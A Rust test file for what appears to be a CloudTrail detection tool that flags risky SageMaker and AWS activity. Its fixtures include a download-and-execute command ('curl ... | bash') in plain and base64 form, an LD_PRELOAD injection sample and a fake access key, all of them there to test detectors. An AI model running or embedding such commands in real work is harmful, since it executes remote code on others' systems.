//! Every derived field over records that say something, nothing, and nonsense.

use rempart_sigma::{Derive, Derived};
use rempart_trail::record::Record;
use serde_json::{Value, json};

use super::{Deriver, FIELDS, KnownAccounts};

const OWN: &str = "111122223333";

fn derive_with(accounts: &KnownAccounts, record: &Value, field: &str) -> Value {
    let text = record.to_string();
    let record = Record::parse(text.as_bytes()).unwrap();
    match Deriver::new(accounts).derive(&record, field) {
        Derived::Absent => Value::Null,
        Derived::Bool(flag) => json!(flag),
        Derived::Text(text) => json!(text),
        Derived::Word(text) => json!(text),
        Derived::Number(number) => json!(number),
        Derived::List(texts) => json!(texts),
    }
}

fn derive(record: &Value, field: &str) -> Value {
    derive_with(&KnownAccounts::default(), record, field)
}

/// A record with this request.
fn asking(request: Value) -> Value {
    call("sagemaker.amazonaws.com", "CreateTrainingJob", request)
}

fn call(source: &str, name: &str, request: Value) -> Value {
    json!({
        "eventSource": source,
        "eventName": name,
        "recipientAccountId": OWN,
        "requestParameters": request,
    })
}

fn by(identity: Value) -> Value {
    json!({"userIdentity": identity, "recipientAccountId": OWN})
}

/// A session of a role, as CloudTrail records it.
fn session(role_path: &str, role: &str, name: &str) -> Value {
    json!({
        "type": "AssumedRole",
        "principalId": format!("AROAEXAMPLE:{name}"),
        "arn": format!("arn:aws:sts::{OWN}:assumed-role/{role}/{name}"),
        "accountId": OWN,
        "sessionContext": {"sessionIssuer": {
            "type": "Role",
            "arn": format!("arn:aws:iam::{OWN}:role/{role_path}{role}"),
        }},
    })
}

#[track_caller]
fn check(field: &str, cases: &[(Value, Value)]) {
    assert!(FIELDS.contains(&field), "{field} is listed");
    for (record, expected) in cases {
        assert_eq!(derive(record, field), *expected, "{field} of {record}");
    }
}

/// As [`check`], for records that differ in their request alone.
#[track_caller]
fn check_requests(field: &str, cases: &[(Value, Value)]) {
    let cases: Vec<_> = cases
        .iter()
        .map(|(request, expected)| (asking(request.clone()), expected.clone()))
        .collect();
    check(field, &cases);
}

#[test]
fn principal() {
    let user =
        json!({"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/bob", "userName": "bob"});
    check(
        "rempart.principal",
        &[
            (by(user), json!("arn:aws:iam::111122223333:user/bob")),
            (
                by(json!({"type": "AWSService", "invokedBy": "ec2.amazonaws.com"})),
                json!("ec2.amazonaws.com"),
            ),
            (by(json!({"onBehalfOf": {"userId": "u-1"}})), json!("u-1")),
            (
                by(json!({"type": "AWSAccount", "accountId": OWN})),
                json!(OWN),
            ),
            (by(json!({"arn": ""})), json!("unknown")),
            (by(json!("root")), json!("unknown")),
            (json!({}), json!("unknown")),
        ],
    );
}

#[test]
fn actor() {
    let person = session(
        "aws-reserved/sso.amazonaws.com/",
        "AWSReservedSSO_Data_0123456789abcdef",
        "eva@example.com",
    );
    let federated = json!({
        "type": "FederatedUser",
        "arn": "arn:aws:sts::111122223333:federated-user/x",
        "sessionContext": {"sessionIssuer": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/bob"}},
    });
    let bare =
        json!({"type": "AssumedRole", "arn": "arn:aws:sts::111122223333:assumed-role/Build/i-0"});
    check(
        "rempart.identity.actor",
        &[
            (
                by(session("team/", "Build", "run-8161")),
                json!("arn:aws:iam::111122223333:role/team/Build"),
            ),
            (
                by(person),
                json!(
                    "arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_Data_0123456789abcdef/eva@example.com"
                ),
            ),
            (by(federated), json!("arn:aws:iam::111122223333:user/bob")),
            (by(bare), json!("arn:aws:iam::111122223333:role/Build")),
            (
                by(json!({"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/bob"})),
                json!("arn:aws:iam::111122223333:user/bob"),
            ),
            (
                by(json!({"type": "AWSService", "invokedBy": "ec2.amazonaws.com"})),
                json!("ec2.amazonaws.com"),
            ),
            (
                by(json!({"arn": 7, "sessionContext": []})),
                json!("unknown"),
            ),
            (json!({}), json!("unknown")),
        ],
    );
}

#[test]
fn person() {
    let mut console = by(session("", "DataScientist", "alice"));
    console["sessionCredentialFromConsole"] = json!("true");
    let mut not_console = by(session("", "DataScientist", "alice"));
    not_console["sessionCredentialFromConsole"] = json!("false");
    check(
        "rempart.identity.person",
        &[
            (console, json!(true)),
            (not_console, json!(false)),
            (
                by(session("", "AWSReservedSSO_Data_01", "eva")),
                json!(true),
            ),
            // A role of any name may hold the text elsewhere.
            (
                by(session("", "Build", "AWSReservedSSO_Data")),
                json!(false),
            ),
            (by(json!({"type": "IAMUser"})), json!(true)),
            (by(json!({"type": "Root"})), json!(true)),
            (by(json!({"type": "AWSService"})), json!(false)),
            (by(json!({"type": "IdentityCenterUser"})), json!(true)),
            (
                by(json!({"type": "AssumedRole", "onBehalfOf": {"userId": "u"}})),
                json!(true),
            ),
            (
                by(json!({"type": "AssumedRole", "onBehalfOf": null})),
                json!(false),
            ),
            (by(json!([])), json!(false)),
            (json!({}), json!(false)),
        ],
    );
}

#[test]
fn sagemaker_session() {
    let mut other_type = session("", "Build", "SageMaker");
    other_type["type"] = json!("IAMUser");
    check(
        "rempart.identity.sagemaker_session",
        &[
            (by(session("", "Build", "SageMaker")), json!(true)),
            (
                by(session(
                    "service-role/",
                    "AmazonSageMaker-ExecutionRole-1",
                    "x",
                )),
                json!(true),
            ),
            (by(session("", "SAGEMAKER-EXECUTION", "x")), json!(true)),
            (by(session("", "SageMakerAdmin", "x")), json!(false)),
            (by(session("", "Build", "SageMaker-2")), json!(false)),
            (by(other_type), json!(false)),
            (by(json!(["SageMaker"])), json!(false)),
            (json!({}), json!(false)),
        ],
    );
    let escaped = br#"{"userIdentity":{"type":"AssumedRole","principalId":"A:S\u0061geMaker"}}"#;
    let record = Record::parse(escaped).unwrap();
    let accounts = KnownAccounts::default();
    let derived = Deriver::new(&accounts).derive(&record, "rempart.identity.sagemaker_session");
    assert_eq!(derived, Derived::Bool(true));
}

#[test]
fn outcome() {
    let failed = |code: &str| json!({"errorCode": code});
    check(
        "rempart.outcome",
        &[
            (json!({}), json!("success")),
            (json!({"errorCode": null}), json!("success")),
            (failed("AccessDenied"), json!("denied")),
            (failed("Client.UnauthorizedOperation"), json!("denied")),
            (failed("ThrottlingException"), json!("throttled")),
            (failed("ResourceLimitExceeded"), json!("limit")),
            (failed("RequestLimitExceeded"), json!("throttled")),
            (failed("InsufficientCapacityError"), json!("limit")),
            (failed("ValidationException"), json!("failed")),
            (
                json!({"errorCode": "X", "errorMessage": "User is not authorized to perform: y"}),
                json!("denied"),
            ),
            (
                json!({"eventName": "ConsoleLogin", "responseElements": {"ConsoleLogin": "Failure"}}),
                json!("failed"),
            ),
            (
                json!({"eventName": "ConsoleLogin", "responseElements": {"ConsoleLogin": "Success"}}),
                json!("success"),
            ),
        ],
    );
}

#[test]
fn source_kind() {
    let from = |address: &str| json!({"sourceIPAddress": address});
    check(
        "rempart.source.kind",
        &[
            (from("198.51.100.7"), json!("public")),
            (from("2001:db8::1"), json!("public")),
            (from("10.0.0.1"), json!("private")),
            (from("::ffff:10.0.0.1"), json!("private")),
            (from("100.64.0.1"), json!("private")),
            (from("169.254.1.1"), json!("private")),
            (from("fd00::1"), json!("private")),
            (from("sagemaker.amazonaws.com"), json!("service")),
            (from("AWS Internal"), json!("internal")),
            (from("999.1.1.1"), json!("service")),
            (from(""), json!("none")),
            (json!({"sourceIPAddress": 5}), json!("none")),
            (json!({}), json!("none")),
        ],
    );
}

#[test]
fn request_state() {
    let without = |source: &str, name: &str| json!({"eventSource": source, "eventName": name});
    let mut refused = call("sagemaker.amazonaws.com", "CreateTrainingJob", Value::Null);
    refused["errorCode"] = json!("ValidationException");
    check(
        "rempart.request.state",
        &[
            (asking(json!({"a": 1})), json!("present")),
            (asking(json!({})), json!("empty")),
            (asking(json!("text")), json!("present")),
            (asking(Value::Null), json!("omitted")),
            (refused, json!("null")),
            (
                call("sagemaker.amazonaws.com", "ListModels", Value::Null),
                json!("null"),
            ),
            (
                without("sagemaker.amazonaws.com", "CreateModel"),
                json!("omitted"),
            ),
            (
                without("sagemaker.amazonaws.com", "ListModels"),
                json!("absent"),
            ),
            (without("nobody.example", "Nothing"), json!("absent")),
        ],
    );
}

/// `curl -s http://198.51.100.9/x | bash` and `pip install pandas`, in base64.
const HOSTILE: &str = "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBiYXNo";
const TAME: &str = "cGlwIGluc3RhbGwgcGFuZGFz";

#[test]
fn script_fields() {
    let create = |content: &str| {
        call(
            "sagemaker.amazonaws.com",
            "CreateStudioLifecycleConfig",
            json!({"studioLifecycleConfigContent": content}),
        )
    };
    let notebook = call(
        "sagemaker.amazonaws.com",
        "UpdateNotebookInstanceLifecycleConfig",
        json!({"notebookInstanceLifecycleConfigName": "x", "onCreate": [{"content": TAME}], "onStart": [{"content": HOSTILE}]}),
    );
    let lost = call(
        "sagemaker.amazonaws.com",
        "CreateStudioLifecycleConfig",
        Value::Null,
    );
    let elsewhere = call(
        "other.amazonaws.com",
        "CreateStudioLifecycleConfig",
        json!({"studioLifecycleConfigContent": HOSTILE}),
    );
    check(
        "rempart.script.state",
        &[
            (create(HOSTILE), json!("decoded")),
            (create("%%%"), json!("undecodable")),
            (lost.clone(), json!("omitted")),
            (elsewhere.clone(), Value::Null),
            (
                asking(json!({"studioLifecycleConfigContent": HOSTILE})),
                Value::Null,
            ),
            (create(TAME), json!("decoded")),
        ],
    );
    check(
        "rempart.script.verdict",
        &[
            (create(TAME), json!("clean")),
            (lost, json!("unknown")),
            (create("%%%"), json!("unknown")),
            (elsewhere, Value::Null),
        ],
    );
    assert_ne!(derive(&notebook, "rempart.script.verdict"), json!("clean"));
    let has = |record: &Value, field: &str, text: &str| {
        let found = derive(record, field);
        let texts = found.as_array().unwrap().clone();
        assert!(
            texts.iter().any(|one| one.as_str().unwrap().contains(text)),
            "{field}: {found}"
        );
    };
    has(&notebook, "rempart.script.classes", "download-and-run");
    has(&notebook, "rempart.script.indicators", "line 1");
    assert!(derive(&create(HOSTILE), "rempart.script.level").is_string());
    assert_eq!(derive(&create(TAME), "rempart.script.level"), Value::Null);
}

#[test]
fn a_deriver_tells_scripts_apart() {
    let accounts = KnownAccounts::default();
    let deriver = Deriver::new(&accounts);
    let texts = [HOSTILE, TAME, HOSTILE].map(|content| {
        call(
            "sagemaker.amazonaws.com",
            "CreateStudioLifecycleConfig",
            json!({"studioLifecycleConfigContent": content}),
        )
        .to_string()
    });
    let clean = texts.each_ref().map(|text| {
        let record = Record::parse(text.as_bytes()).unwrap();
        deriver.derive(&record, "rempart.script.verdict") == Derived::Text("clean".to_owned())
    });
    assert_eq!(clean, [false, true, false]);
}

#[test]
fn entry_points() {
    let command = "curl -s http://198.51.100.9/x | bash";
    let words = json!({"algorithmSpecification": {"containerEntrypoint": ["bash", "-c", command]}});
    let environment = json!({"environment": {"RUN": command}});
    let pipeline = json!({"pipelineDefinition": format!("{{\"Steps\": \"{command}\"}}")});
    for request in [words, environment, pipeline] {
        let record = asking(request);
        let classes = derive(&record, "rempart.entrypoint.classes");
        assert!(
            classes
                .as_array()
                .unwrap()
                .contains(&json!("download-and-run")),
            "{classes}"
        );
        assert!(derive(&record, "rempart.entrypoint.level").is_string());
    }
    let quiet = [
        (
            json!({"containerEntrypoint": ["python3", "train.py"]}),
            Value::Null,
        ),
        (json!({"containerEntrypoint": {"a": 1}}), Value::Null),
        (json!({"description": command}), Value::Null),
        (json!([]), Value::Null),
        (Value::Null, Value::Null),
    ];
    check_requests("rempart.entrypoint.classes", &quiet);
    check_requests("rempart.entrypoint.level", &quiet);
}

#[test]
fn secrets() {
    // Put together here, so that scanners of repositories do not take it for a key.
    let key = format!("{}{}", "AKIA", "QWERTYUIOPASDFGH");
    check_requests(
        "rempart.secret.kinds",
        &[
            (
                json!({"environment": {"A": key}}),
                json!(["aws-access-key"]),
            ),
            (json!({"environment": {"A": "plain"}}), Value::Null),
            (json!(["x", 1, null, {"a": []}]), Value::Null),
            (Value::Null, Value::Null),
        ],
    );
}

#[test]
fn risky_environment() {
    check_requests(
        "rempart.environment.risky",
        &[
            (
                json!({"environment": {"LD_PRELOAD": "/tmp/x.so", "pip_index_url": "https://x.example/"}}),
                json!(["LD_PRELOAD", "PIP_INDEX_URL"]),
            ),
            (
                json!({"environment": {"LD_LIBRARY_PATH": "/opt/conda/lib:/usr/lib", "PIP_INDEX_URL": "https://pypi.org/simple"}}),
                Value::Null,
            ),
            (json!({"environment": "LD_PRELOAD=/tmp/x"}), Value::Null),
            (json!({"hyperParameters": {"LD_PRELOAD": "x"}}), Value::Null),
        ],
    );
}

#[test]
fn images() {
    let ecr = |account: &str| format!("{account}.dkr.ecr.eu-west-1.amazonaws.com/team/app:1");
    let both = json!({"containers": [{"image": ecr(OWN)}, {"image": ecr("999988887777")}]});
    let digest = format!("{OWN}.dkr.ecr.eu-west-1.amazonaws.com/app@sha256:00");
    check_requests(
        "rempart.image.uris",
        &[
            (both.clone(), json!([ecr(OWN), ecr("999988887777")])),
            (json!({"baseImage": "python:3"}), json!(["python:3"])),
            (json!({"imageName": "x"}), Value::Null),
            (json!({"image": {"deep": [1]}}), Value::Null),
            (Value::Null, Value::Null),
        ],
    );
    check_requests(
        "rempart.image.repositories",
        &[
            (
                json!({"image": ecr(OWN)}),
                json!(["111122223333.dkr.ecr.eu-west-1.amazonaws.com/team/app"]),
            ),
            (
                json!({"image": digest}),
                json!(["111122223333.dkr.ecr.eu-west-1.amazonaws.com/app"]),
            ),
            (json!({"image": "python:3"}), json!(["python"])),
            (
                json!({"image": "registry.example:5000/app"}),
                json!(["registry.example:5000/app"]),
            ),
            (
                json!({"image": "registry.example:5000/app:2@sha256:00"}),
                json!(["registry.example:5000/app"]),
            ),
            (json!({"image": "@:/é:"}), Value::Null),
            (json!({"image": ""}), Value::Null),
            (
                json!({"baseImage": "arn:aws:sagemaker:eu-west-1:111122223333:image/x"}),
                Value::Null,
            ),
        ],
    );
    check_requests(
        "rempart.image.foreign",
        &[
            (both, json!([ecr("999988887777")])),
            (json!({"image": ecr(OWN)}), Value::Null),
            (json!({"image": "python:3"}), Value::Null),
        ],
    );
    check_requests(
        "rempart.image.public",
        &[
            (
                json!({"image": "public.ecr.aws/x/y:1"}),
                json!(["public.ecr.aws/x/y:1"]),
            ),
            (json!({"image": "python:3"}), json!(["python:3"])),
            (json!({"image": ecr("999988887777")}), Value::Null),
            (json!({"image": ""}), Value::Null),
        ],
    );
    let trusted = KnownAccounts::new(["999988887777".to_owned()]);
    let record = asking(json!({"image": ecr("999988887777")}));
    assert_eq!(
        derive_with(&trusted, &record, "rempart.image.foreign"),
        Value::Null
    );
}

#[test]
fn foreign_arns() {
    let role = "arn:aws:iam::999988887777:role/x";
    let key = "arn:aws:kms:eu-west-1:999988887777:key/1";
    let own = "arn:aws:iam::111122223333:role/x";
    let request = json!({"roleArn": role, "list": [{"kmsKeyId": key}, own]});
    check_requests("rempart.foreign.roles", &[(request.clone(), json!([role]))]);
    check_requests("rempart.foreign.keys", &[(request.clone(), json!([key]))]);
    check_requests(
        "rempart.foreign.arns",
        &[
            (request, json!([role, key])),
            (json!({"a": own}), Value::Null),
            (json!({"a": "arn:aws:iam::"}), Value::Null),
            (
                json!({"a": "arn:aws:s3:::bucket/999988887777"}),
                Value::Null,
            ),
            (json!({"a": ["arn", 1, true, null]}), Value::Null),
        ],
    );
    // Nothing is foreign to an unknown account.
    let unknown = json!({"requestParameters": {"roleArn": role}});
    assert_eq!(derive(&unknown, "rempart.foreign.roles"), Value::Null);
}

#[test]
fn foreign_buckets() {
    check_requests(
        "rempart.foreign.buckets",
        &[
            (
                json!({"s3OutputPath": "s3://sagemaker-eu-west-1-999988887777/x"}),
                json!(["sagemaker-eu-west-1-999988887777"]),
            ),
            (
                json!({"bucketName": "data.999988887777"}),
                json!(["data.999988887777"]),
            ),
            (
                json!({"s3OutputPath": "s3://sagemaker-111122223333/x"}),
                Value::Null,
            ),
            (json!({"s3OutputPath": "s3://x1999988887777"}), Value::Null),
            (
                json!({"s3OutputPath": ["s3://", {"a": "s3:///"}]}),
                Value::Null,
            ),
        ],
    );
}

#[test]
fn foreign_accounts() {
    let foreign = json!(["999988887777"]);
    check_requests(
        "rempart.foreign.accounts",
        &[
            (
                json!({"createVolumePermission": {"add": {"items": [{"userId": "999988887777"}, {"userId": OWN}]}}}),
                foreign.clone(),
            ),
            (
                json!({"createVolumePermission": {"remove": {"items": [{"userId": "999988887777"}]}}}),
                Value::Null,
            ),
            (json!({"userIds": ["999988887777"]}), foreign.clone()),
            (
                json!({"principals": ["999988887777", "o-abc"]}),
                foreign.clone(),
            ),
            (json!({"valuesToAdd": ["999988887777"]}), foreign.clone()),
            (json!({"valuesToRemove": ["999988887777"]}), Value::Null),
            (
                json!({"accountIdsToAdd": [999_988_887_777_u64]}),
                foreign.clone(),
            ),
            (json!({"targetAccountId": "999988887777"}), foreign.clone()),
            (
                json!({"principal": {"dataLakePrincipalIdentifier": "999988887777"}}),
                foreign,
            ),
            (json!({"jobName": "999988887777"}), Value::Null),
            (json!({"userId": "99998888777"}), Value::Null),
            (json!({"userId": "９９９９８８８８７７７７"}), Value::Null),
            (json!({"userId": {"a": null}}), Value::Null),
            (json!("999988887777"), Value::Null),
        ],
    );
    let trusted = KnownAccounts::new(["999988887777".to_owned()]);
    let record = asking(json!({"userIds": ["999988887777", "888877776666"]}));
    assert_eq!(
        derive_with(&trusted, &record, "rempart.foreign.accounts"),
        json!(["888877776666"])
    );
}

#[test]
fn foreign_caller() {
    check(
        "rempart.foreign.caller",
        &[
            (
                by(json!({"type": "AWSAccount", "accountId": "999988887777"})),
                json!("999988887777"),
            ),
            (
                by(json!({"arn": "arn:aws:sts::999988887777:assumed-role/x/y"})),
                json!("999988887777"),
            ),
            (by(json!({"accountId": OWN})), Value::Null),
            (by(json!({"type": "AWSService"})), Value::Null),
            (by(json!({"accountId": 5, "arn": []})), Value::Null),
            (
                json!({"userIdentity": {"accountId": "999988887777"}}),
                Value::Null,
            ),
        ],
    );
}

#[test]
fn buckets_of_requests() {
    let request = json!({
        "inputDataConfig": [{"dataSource": {"s3DataSource": {"s3Uri": "s3://in/x"}}}],
        "outputDataConfig": {"s3OutputPath": "s3://out/x"},
        "code": "https://code.s3.eu-west-1.amazonaws.com/a.tar.gz",
        "old": "https://s3.amazonaws.com/old/a",
        "web": "https://example.com/no",
    });
    check_requests(
        "rempart.s3.outputs",
        &[
            (request.clone(), json!(["out"])),
            (
                json!({"dataCaptureConfig": {"destinationS3Uri": "s3://cap"}}),
                json!(["cap"]),
            ),
            (json!({"outputConfig": ["s3://", 1, null]}), Value::Null),
        ],
    );
    check_requests(
        "rempart.s3.inputs",
        &[
            (request, json!(["code", "in", "old"])),
            (
                json!({"modelDataUrl": "arn:aws:s3:::models/x"}),
                json!(["models"]),
            ),
            (json!({"modelDataUrl": {"a": {}}}), Value::Null),
        ],
    );
}

#[test]
fn policies() {
    let policy = |statement: Value| json!({"policy": json!({"Statement": statement}).to_string()});
    let open = json!([{"Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": "x"}]);
    let limited = json!({"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "a", "Resource": "x",
        "Condition": {"StringEquals": {"aws:PrincipalOrgID": "o-1"}}});
    let denied = json!({"Effect": "Deny", "Principal": "*", "Action": "*", "Resource": "*"});
    let admin = json!({"Effect": "Allow", "Action": ["*"], "Resource": "*"});
    let foreign = json!({"Effect": "Allow", "Principal": {"AWS": ["999988887777", "arn:aws:iam::888877776666:root", OWN]}, "Action": "a", "Resource": "b"});
    check_requests(
        "rempart.policy.public",
        &[
            (policy(open.clone()), json!(true)),
            (json!({"bucketPolicy": {"Statement": open}}), json!(true)),
            (policy(limited), json!(false)),
            (policy(denied.clone()), json!(false)),
            (
                json!({"policyDocument": "%7B%22Statement%22%3A%5B%7B%22Effect%22%3A%22Allow%22%2C%22Principal%22%3A%22%2A%22%7D%5D%7D"}),
                json!(true),
            ),
            (json!({"policy": "{\"Statement\": 5}"}), json!(false)),
            (json!({"policy": "{\"Statement\": "}), Value::Null),
            (json!({"policy": "%7B%2"}), Value::Null),
            (json!({"name": "x"}), Value::Null),
        ],
    );
    check_requests(
        "rempart.policy.foreign",
        &[
            (
                policy(foreign),
                json!(["999988887777", "arn:aws:iam::888877776666:root"]),
            ),
            (
                json!({"keyId": "k", "granteePrincipal": "arn:aws:iam::999988887777:root"}),
                json!(["arn:aws:iam::999988887777:root"]),
            ),
            (policy(denied.clone()), Value::Null),
        ],
    );
    check_requests(
        "rempart.policy.admin",
        &[
            (policy(admin), json!(true)),
            (policy(denied), json!(false)),
            (json!({}), Value::Null),
        ],
    );
}

#[test]
fn instances() {
    check_requests(
        "rempart.instance.types",
        &[
            (
                json!({"resourceConfig": {"instanceType": "ml.p4d.24xlarge"}, "x": [{"InstanceType": "ml.m5.large"}]}),
                json!(["ml.m5.large", "ml.p4d.24xlarge"]),
            ),
            (json!({"instanceType": "system"}), Value::Null),
            (json!({"instanceType": {"a": 1}}), Value::Null),
        ],
    );
    let accelerated = |kind: &str| json!({ "instanceType": kind });
    check_requests(
        "rempart.instance.accelerated",
        &[
            (accelerated("ml.p4d.24xlarge"), json!(true)),
            (accelerated("g5.xlarge"), json!(true)),
            (accelerated("ml.trn1.32xlarge"), json!(true)),
            (accelerated("ml.inf2.xlarge"), json!(true)),
            (accelerated("ml.m5.large"), json!(false)),
            (accelerated("ml.."), json!(false)),
            (json!({}), Value::Null),
        ],
    );
    check_requests(
        "rempart.instance.count",
        &[
            (
                json!({"a": {"instanceCount": 2}, "b": [{"initialInstanceCount": 9}]}),
                json!(9.0),
            ),
            (json!({"maxCount": "4"}), json!(4.0)),
            (
                json!({"nodesToAdd": [{"incrementTargetCountBy": 16}]}),
                json!(16.0),
            ),
            (json!({"instanceCount": "many"}), Value::Null),
            (json!({"instanceCount": 1e40}), Value::Null),
            (json!({"instanceCount": [null, {}]}), Value::Null),
        ],
    );
}

#[test]
fn open_ports() {
    let change = |request: Value| {
        call(
            "ec2.amazonaws.com",
            "AuthorizeSecurityGroupIngress",
            request,
        )
    };
    check(
        "rempart.network.open_ports",
        &[
            (
                change(
                    json!({"ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22,
                    "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}}),
                ),
                json!(["tcp/22-22"]),
            ),
            (
                change(
                    json!({"ipPermissions": {"items": [{"ipProtocol": "-1", "ipv6Ranges": {"items": [{"cidrIpv6": "::/0"}]}}]}}),
                ),
                json!(["all/all"]),
            ),
            (
                change(
                    json!({"ModifySecurityGroupRulesRequest": {"SecurityGroupRule": {"SecurityGroupRule":
                    {"IpProtocol": "tcp", "FromPort": 1, "ToPort": 9, "CidrIpv4": "0.0.0.0/1"}}}}),
                ),
                json!(["tcp/1-9"]),
            ),
            (change(json!({"cidrIp": "10.0.0.0/8"})), Value::Null),
            (
                change(json!({"ipPermissions": [1, "x", null]})),
                Value::Null,
            ),
            (
                change(json!({"ipPermissions": {"items": {"items": []}}})),
                Value::Null,
            ),
            (json!({}), Value::Null),
        ],
    );
}

#[test]
fn other_user() {
    let act = |target: Value| {
        json!({
            "eventSource": "iam.amazonaws.com",
            "userIdentity": {"type": "IAMUser", "userName": "bob"},
            "requestParameters": target,
        })
    };
    let mut elsewhere = act(json!({"userName": "eva"}));
    elsewhere["eventSource"] = json!("ec2.amazonaws.com");
    check(
        "rempart.target.other_user",
        &[
            (act(json!({"userName": "eva"})), json!(true)),
            (act(json!({"userName": "Bob"})), json!(false)),
            (act(Value::Null), json!(false)),
            (act(json!({"userName": 5})), json!(false)),
            (elsewhere, Value::Null),
            (json!({}), Value::Null),
        ],
    );
}

#[test]
fn other_profile() {
    let presign = |profile: Value| {
        json!({
            "userIdentity": session("", "DataScientist", "alice.smith@example.com"),
            "requestParameters": {"userProfileName": profile},
        })
    };
    check(
        "rempart.presign.other_profile",
        &[
            (presign(json!("alice-smith")), json!(false)),
            (presign(json!("bob")), json!(true)),
            (presign(json!(5)), Value::Null),
            (
                json!({"requestParameters": {"userProfileName": "x"}}),
                Value::Null,
            ),
        ],
    );
}

#[test]
fn claimed_profile() {
    const TAG: &str = "sagemaker:user-profile-arn";
    check_requests(
        "rempart.tags.user_profile",
        &[
            (
                json!({"tags": [{"key": "a"}, {"key": TAG, "value": "arn:x"}]}),
                json!("arn:x"),
            ),
            (json!({"tags": {TAG: "arn:x"}}), json!("arn:x")),
            (json!({"tags": [{"key": TAG, "value": 5}]}), Value::Null),
            (json!({"tags": "x"}), Value::Null),
        ],
    );
}

#[test]
fn resource_name() {
    check_requests(
        "rempart.resource.name",
        &[
            (json!({"trainingJobName": "Churn-1"}), json!("churn-1")),
            (json!({"modelName": "m", "endpointName": "E"}), json!("e")),
            (
                json!({"endpointName": "e", "inferenceComponentName": "C"}),
                json!("c"),
            ),
            (json!({"jobName": "J"}), json!("j")),
            (
                json!({"trialComponentName": "T", "metricData": []}),
                json!("t"),
            ),
            (json!({"endpointName": 5, "modelName": "m"}), json!("m")),
            (json!({"deep": {"modelName": "m"}}), Value::Null),
            (json!([]), Value::Null),
            (Value::Null, Value::Null),
        ],
    );
    let invoke = |name: &str, resources: Value| json!({"eventName": name, "resources": resources});
    let arn = "arn:aws:sagemaker:eu-west-1:111122223333:endpoint/Fraud";
    check(
        "rempart.resource.name",
        &[
            (
                invoke(
                    "InvokeEndpoint",
                    json!([{"ARN": "arn:aws:s3:::x"}, {"ARN": arn}]),
                ),
                json!("fraud"),
            ),
            (
                invoke("InvokeEndpointWithResponseStream", json!([{"ARN": arn}])),
                json!("fraud"),
            ),
            (invoke("GetObject", json!([{"ARN": arn}])), Value::Null),
            (
                invoke("InvokeEndpoint", json!([{"ARN": 5}, "x", null])),
                Value::Null,
            ),
            (invoke("InvokeEndpoint", json!("x")), Value::Null),
        ],
    );
}

#[test]
fn selectors() {
    let put = |request: Value| call("cloudtrail.amazonaws.com", "PutEventSelectors", request);
    let advanced = put(json!({"advancedEventSelectors": [{"fieldSelectors": [
        {"field": "resources.type", "equals": ["AWS::S3::Object"]},
        {"field": "userIdentity.arn", "notEquals": ["arn:x"]},
        {"field": 5},
        7,
    ]}]}));
    let basic = put(json!({"eventSelectors": [{
        "includeManagementEvents": false,
        "readWriteType": "ReadOnly",
        "excludeManagementEventSources": ["kms.amazonaws.com"],
        "dataResources": [{"type": "AWS::Lambda::Function"}],
    }]}));
    let nonsense = put(json!({"advancedEventSelectors": "x", "eventSelectors": [[1], null]}));
    check(
        "rempart.selectors.data_types",
        &[
            (advanced.clone(), json!(["AWS::S3::Object"])),
            (basic.clone(), json!(["AWS::Lambda::Function"])),
            (nonsense.clone(), Value::Null),
        ],
    );
    check(
        "rempart.selectors.excludes",
        &[
            (advanced, json!(["userIdentity.arn"])),
            (
                basic,
                json!(["eventSource", "managementEvents", "writeEvents"]),
            ),
            (nonsense, Value::Null),
        ],
    );
}

#[test]
fn quota() {
    let ask = |source: &str, name: &str| {
        let mut record = call(
            source,
            "RequestServiceQuotaIncrease",
            json!({"quotaCode": "L-1"}),
        );
        record["responseElements"] = json!({"requestedQuota": {"quotaName": name}});
        record
    };
    const SOURCE: &str = "servicequotas.amazonaws.com";
    check(
        "rempart.quota.accelerated",
        &[
            (
                ask(SOURCE, "ml.p5.48xlarge for training job usage"),
                json!(true),
            ),
            (ask(SOURCE, "Running On-Demand P instances"), json!(true)),
            (ask(SOURCE, "ml.m5.large for endpoint usage"), json!(false)),
            (ask("other.amazonaws.com", "ml.p5.48xlarge"), Value::Null),
            (call(SOURCE, "X", json!({"quotaCode": "L-1"})), Value::Null),
        ],
    );
}

#[test]
fn every_field_is_answered_or_absent() {
    // A name that `FIELDS` does not list is absent, and so is one without the prefix.
    let record = asking(json!({"modelName": "m"}));
    assert_eq!(derive(&record, "rempart.nothing"), Value::Null);
    assert_eq!(derive(&record, "resource.name"), Value::Null);
    let mut sorted = FIELDS.to_vec();
    sorted.sort_unstable();
    sorted.dedup();
    assert_eq!(sorted.len(), FIELDS.len(), "listed once");
}

/// Nesting, sizes and types that no real record has must end, and say nothing that is not there.
#[test]
fn hostile_records() {
    let deep = |levels: usize| {
        format!(
            "{}\"arn:aws:iam::999988887777:role/x\"{}",
            "{\"image\":[".repeat(levels),
            "]}".repeat(levels)
        )
    };
    let wide = format!("[{}]", vec!["{\"Statement\":[]}"; 5_000].join(","));
    let texts = [
        format!("{{\"recipientAccountId\":\"{OWN}\",\"requestParameters\":{}}}", deep(20)),
        format!("{{\"recipientAccountId\":\"{OWN}\",\"requestParameters\":{}}}", deep(60)),
        format!("{{\"requestParameters\":{wide},\"userIdentity\":{wide},\"resources\":{wide}}}"),
        "{\"userIdentity\":[],\"requestParameters\":\"\\ud83d\\ude00\",\"eventName\":7,\"errorCode\":{}}".to_owned(),
        "{\"requestParameters\":{\"policy\":\"%7BStatement%ZZ%\"},\"eventSource\":null}".to_owned(),
        "{}".to_owned(),
    ];
    let accounts = KnownAccounts::default();
    let deriver = Deriver::new(&accounts);
    for text in &texts {
        let Ok(record) = Record::parse(text.as_bytes()) else {
            continue;
        };
        for field in FIELDS {
            let _ = deriver.derive(&record, field);
        }
    }
    let [shallow, too_deep, ..] = &texts;
    let roles = |text: &str| {
        Record::parse(text.as_bytes())
            .map(|record| deriver.derive(&record, "rempart.foreign.roles"))
            .unwrap_or_default()
    };
    let found = vec!["arn:aws:iam::999988887777:role/x".to_owned()];
    assert_eq!(roles(shallow), Derived::List(found));
    assert_eq!(roles(too_deep), Derived::Absent, "deeper than is looked");
}
